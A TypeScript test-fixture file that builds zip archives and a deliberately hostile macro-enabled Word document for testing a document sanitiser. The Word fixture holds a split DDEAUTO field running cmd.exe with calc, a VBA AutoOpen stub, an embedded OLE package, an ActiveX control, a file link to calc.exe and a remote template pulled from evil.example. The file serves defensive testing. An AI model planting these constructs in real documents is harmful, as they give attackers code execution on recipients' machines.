/**
 * Office documents built in the tests (MAL-07 fixtures): a zip from named parts, and a macro-enabled
 * Word document carrying everything the 無害化 engine must take out.
 */
import type { Readable } from 'node:stream';
import yazl from 'yazl';

export function zipOf(entries: Record<string, string | Buffer>): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, data] of Object.entries(entries)) z.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data), name);
  z.end();
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
  });
}

export const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MS_REL = 'http://schemas.microsoft.com/office/2006/relationships';

/** A macro-enabled Word document with everything the sanitiser must take out. */
export function docm(): Promise<Buffer> {
  return zipOf({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document ${W}><w:body><w:p><w:r><w:t>市民課 報告書</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr=" DDE Excel Sheet1 "><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r><w:r><w:control r:id="rId6" w:name="CommandButton1"/></w:r></w:p><w:p><w:hyperlink r:id="rId7"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MS_REL}/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId5" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="${REL}/control" Target="activeX/activeX1.xml"/><Relationship Id="rId7" Type="${REL}/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId8" Type="${REL}/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/></Relationships>`,
    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings ${W}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
    'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>`,
    'word/vbaProject.bin': Buffer.from('VBA PROJECT Sub AutoOpen() Shell "calc" End Sub'),
    'word/vbaData.xml': '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
    'word/activeX/activeX1.xml':
      '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
    'word/activeX/_rels/activeX1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MS_REL}/activeXControlBinary" Target="activeX1.bin"/></Relationships>`,
    'word/activeX/activeX1.bin': Buffer.from('ACTIVEX'),
    'word/embeddings/oleObject1.bin': Buffer.from('OLE PACKAGE payload.exe'),
    'word/media/image1.png': Buffer.from('PNGDATA'),
  });
}

/** A zip whose entries are streamed (large, compressible contents without holding them in memory). */
export function zipStreams(entries: Array<[string, () => Readable]>): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, open] of entries) z.addReadStream(open(), name);
  z.end();
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
  });
}

/** A stored zip whose one entry is flagged encrypted (general-purpose bit 0), as clamd sees a password-protected zip. */
export async function encryptedZip(): Promise<Buffer> {
  const z = Buffer.from(await zipOf({ '議事録.txt': 'secret minutes' }));
  for (let i = 0; i < z.length - 4; i++) {
    const sig = z.readUInt32LE(i);
    if (sig === 0x04034b50) z.writeUInt16LE(z.readUInt16LE(i + 6) | 1, i + 6);
    if (sig === 0x02014b50) z.writeUInt16LE(z.readUInt16LE(i + 8) | 1, i + 8);
  }
  return z;
}
